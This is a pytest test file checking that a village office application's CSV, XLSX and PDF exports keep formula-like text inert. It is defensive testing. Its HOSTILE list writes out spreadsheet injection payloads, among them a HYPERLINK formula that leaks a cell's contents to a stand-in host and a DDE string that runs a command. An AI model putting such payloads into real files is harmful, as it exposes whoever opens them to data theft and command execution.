"""Register and resident exports: text that looks like a formula never becomes a live formula."""

from __future__ import annotations

import csv
import zipfile

import pytest
from openpyxl import load_workbook

from desktop.models.export_cells import FORMULA_LEADS
from desktop.models.register import export as register_export
from desktop.models.residents.export import export_residents
from desktop.models.residents.importing import import_rows, read_file
from desktop.models.residents.repository import Resident
from tests.identities import admin_actor

HOSTILE = ['=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")', "=cmd|'/c calc'!A0", "+62 812", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\uff1d1+1", "<b>tebal</b> & <font size=80>besar</font>"]


@pytest.fixture
def hostile_register(office_services, sign_in):
    clerk = sign_in("petugas")
    for text in HOSTILE:
        office_services.register.add_manual(clerk, classification="470", subject=text, recipient=text,
                                            signer_name=text)
    return office_services.register.entries()


def _csv_cells(path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh, delimiter=";") for cell in row]


def _assert_xlsx_inert(path, expected_texts):
    sheet_xml = zipfile.ZipFile(path).read(next(n for n in zipfile.ZipFile(path).namelist()
                                                if n.startswith("xl/worksheets/sheet")))
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # no formula anywhere in the sheet
    ws = load_workbook(path).active
    values = [c for row in ws.iter_rows() for c in row]
    assert all(c.data_type == "s" for c in values if c.value is not None)
    risky = [c for c in values if isinstance(c.value, str) and c.value.startswith(FORMULA_LEADS)]
    assert risky and all(c.quotePrefix for c in risky)  # Excel keeps them text even when edited
    texts = {c.value for c in values}
    assert set(expected_texts) <= texts  # stored exactly as typed, not altered


def test_register_csv_has_no_cell_a_spreadsheet_reads_as_formula(hostile_register, tmp_path):
    path = register_export.to_csv(hostile_register, tmp_path / "register.csv")
    cells = _csv_cells(path)
    assert not [c for c in cells if c.startswith(FORMULA_LEADS)]
    assert f"'{HOSTILE[0]}" in cells and "'=cmd|'/c calc'!A0" in cells


def test_register_xlsx_has_no_live_formula(hostile_register, tmp_path):
    path = register_export.to_xlsx(hostile_register, tmp_path / "register.xlsx")
    _assert_xlsx_inert(path, HOSTILE[:5])


def test_register_pdf_prints_hostile_text_as_text(hostile_register):
    from pypdf import PdfReader

    from desktop.printing.register_pdf import register_pdf

    pdf = register_pdf(hostile_register, "Kalirejo <b>", "November 2026")
    import io

    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "'=cmd|'/c calc'!A0" in text.replace("\n", "")
    assert "<b>tebal</b>" in text.replace("\n", " ")  # markup shown, not interpreted


def test_resident_exports_are_inert_and_import_back_unchanged(services, tmp_path):
    people = [Resident(nik=f"35141012078500{i + 10:02d}", nama=name, tanggal_lahir="1985-07-12", jenis_kelamin="L",
                       telepon="+62 812 3456" if i == 0 else "", alamat=name)
              for i, name in enumerate(HOSTILE[:5])]
    services.residents.insert_many(people, admin_actor(services))
    csv_path, xlsx_path = tmp_path / "p.csv", tmp_path / "p.xlsx"
    export_residents(services.residents, csv_path, "csv", admin_actor(services))
    export_residents(services.residents, xlsx_path, "xlsx", admin_actor(services))
    assert not [c for c in _csv_cells(csv_path) if c.startswith(FORMULA_LEADS)]
    _assert_xlsx_inert(xlsx_path, HOSTILE[:5])
    exports = [r[0] for r in services.db.execute("SELECT action FROM audit WHERE action = 'resident.export'")]
    assert len(exports) == 2  # personal data leaving the office is on the audit trail
    for path in (csv_path, xlsx_path):  # what went out comes back exactly (the apostrophe is ours)
        services.db.execute("DELETE FROM residents")
        report = import_rows(services.residents, read_file(path), admin_actor(services))
        assert report.refused == [] and report.imported == 5
        names = {r[0] for r in services.db.execute("SELECT nama FROM residents")}
        assert names == {" ".join(n.split()).upper() for n in HOSTILE[:5]}
        assert services.residents.by_nik("3514101207850010").telepon == "+62 812 3456"
